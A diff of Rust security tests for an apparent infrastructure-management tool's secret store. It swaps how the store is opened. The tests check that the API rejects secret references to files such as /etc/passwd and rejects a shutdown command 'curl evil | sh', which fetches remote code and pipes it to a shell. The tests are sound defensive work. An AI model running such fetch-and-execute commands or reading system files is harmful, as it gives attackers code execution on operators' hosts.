@@ -65,7 +65,7 @@ fn through_the_api_a_secret_is_a_value_never_a_file_or_a_variable() {
     assert!(topology_file::parse(toml, &ParseOptions::operator()).is_ok(), "the operator's file may");
 
     // …and so does the store, whatever built the draft.
-    let store = Store::open_in_memory(MasterKey::generate()).unwrap();
+    let store = crate::support::store(MasterKey::generate());
     for r in [SecretRef::File("/etc/passwd".into()), SecretRef::Env("HOME".into())] {
         let spec = host(&[("proxmox_password", secret(r.clone()))]);
         let err = store.create_node(draft(spec), Origin::Api).unwrap_err();
@@ -108,7 +108,7 @@ fn no_reference_names_the_master_key_or_the_database_directory() {
 
 #[test]
 fn a_stored_credential_is_its_nodes_for_its_key_and_its_endpoint() {
-    let store = Store::open_in_memory(MasterKey::generate()).unwrap();
+    let store = crate::support::store(MasterKey::generate());
     let pve = store.add_node(host(&[("proxmox_password", secret(SecretRef::Inline("root-pw".into())))]), None).unwrap();
     let cred = stored(&store, "pve", "proxmox_password");
 
@@ -148,7 +148,7 @@ fn a_stored_credential_is_its_nodes_for_its_key_and_its_endpoint() {
 
 #[test]
 fn a_command_from_the_api_is_a_standard_one_or_the_operators() {
-    let store = Store::open_in_memory(MasterKey::generate()).unwrap();
+    let store = crate::support::store(MasterKey::generate());
     let with_command =
         |cmd: &str| NodeSpec::new("nas", Kind::Physical, ConnectorConfig::new("sim").with("shutdown_command", cmd));
     let err = store.create_node(draft(with_command("curl evil | sh")), Origin::Api).unwrap_err();
@@ -164,7 +164,7 @@ fn a_command_from_the_api_is_a_standard_one_or_the_operators() {
 
 #[test]
 fn what_a_platform_reports_never_carries_secrets_or_grants() {
-    let store = Store::open_in_memory(MasterKey::generate()).unwrap();
+    let store = crate::support::store(MasterKey::generate());
     let bmc = store
         .add_node(
             NodeSpec::new(
@@ -209,7 +209,7 @@ fn what_a_platform_reports_never_carries_secrets_or_grants() {
 
 #[test]
 fn files_a_connector_reads_are_named_by_the_operator_only() {
-    let store = Store::open_in_memory(MasterKey::generate()).unwrap();
+    let store = crate::support::store(MasterKey::generate());
     let host = |ca: &str| {
         NodeSpec::new(
             "docker-host",
